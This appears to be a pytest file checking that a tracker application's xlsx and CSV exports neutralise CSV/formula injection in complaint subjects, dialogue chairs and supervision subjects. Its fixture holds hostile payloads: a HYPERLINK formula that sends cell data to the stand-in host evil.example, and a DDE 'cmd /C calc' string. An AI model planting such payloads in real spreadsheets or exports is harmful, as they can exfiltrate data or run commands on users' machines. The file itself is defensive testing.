"""Every text cell an export or a report writes is inert in a spreadsheet program (OWASP CSV
injection): a subject, a session's chair or topic, a supervision's subject that starts like a
formula stays text in a workbook and gets a leading apostrophe in CSV."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from tests.api.conftest import TODAY
from tracker.schemas import DialogueIn, SupervisionIn
from tracker.services import activity

YEAR = f"from={TODAY.year}-01-01&to={TODAY.year}-12-31"
LINK = '=HYPERLINK("http://evil.example/?"&B3,"Xem")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1"]


@pytest.fixture()
def hostile(steps, person, session):
    """A complaint, a dialogue session and a supervision whose texts all start like formulas."""
    for text in HOSTILE:
        steps.complaint(subject=text)
    clerk = person("reception").user
    activity.open_dialogue(session, clerk, DialogueIn(host_unit="HT", held_on=TODAY - dt.timedelta(days=1), chair=LINK, topic=HOSTILE[1]))
    activity.open_supervision(session, person("supervisor").user, SupervisionIn(
        board_unit="HT-MT", subject=HOSTILE[3], started_on=TODAY - dt.timedelta(days=5)))


def workbook_texts(data: bytes) -> list[tuple[str, str]]:
    book = load_workbook(io.BytesIO(data))
    return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)]


def csv_texts(data: bytes) -> list[str]:
    return [value for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for value in row]


EXPORTS = [f"/api/v1/metrics/drilldown/export?unit=HT&{YEAR}&figure={figure}"
           for figure in ("cases.received", "dialogues.sessions", "supervisions.sessions")]


@pytest.mark.parametrize("path", EXPORTS)
def test_a_workbook_export_holds_formula_like_text_as_text(hostile, person, call, path):
    answer = call(person("leader"), "GET", path + "&format=xlsx")
    assert answer.status_code == 200
    texts = workbook_texts(answer.data)
    assert all(kind != "f" for kind, _ in texts)
    assert any(value.lstrip("\t").startswith(("=", "+", "@", "＝")) for _, value in texts)  # kept as the person wrote it


@pytest.mark.parametrize("path", EXPORTS)
def test_a_csv_export_starts_no_cell_like_a_formula(hostile, person, call, path):
    answer = call(person("leader"), "GET", path + "&format=csv")
    assert answer.status_code == 200
    values = csv_texts(answer.data)
    assert not [v for v in values if v.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    assert any(v.startswith("'") for v in values)


def test_the_drilldown_export_of_a_hostile_subject_reads_back_exactly(hostile, person, call):
    xlsx = call(person("leader"), "GET", f"{EXPORTS[0]}&format=xlsx")
    assert ("s", LINK) in workbook_texts(xlsx.data)
    text = call(person("leader"), "GET", f"{EXPORTS[0]}&format=csv")
    assert "'" + LINK in csv_texts(text.data)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_periodic_report_is_inert_too(hostile, person, call, fmt):
    answer = call(person("leader"), "GET", f"/api/v1/reports?unit=HT&period={TODAY.year}&form=figures&format={fmt}")
    assert answer.status_code == 200
    if fmt == "xlsx":
        assert all(kind != "f" for kind, _ in workbook_texts(answer.data))
    else:
        assert not [v for v in csv_texts(answer.data) if v.startswith(("=", "+", "@", "\t"))]
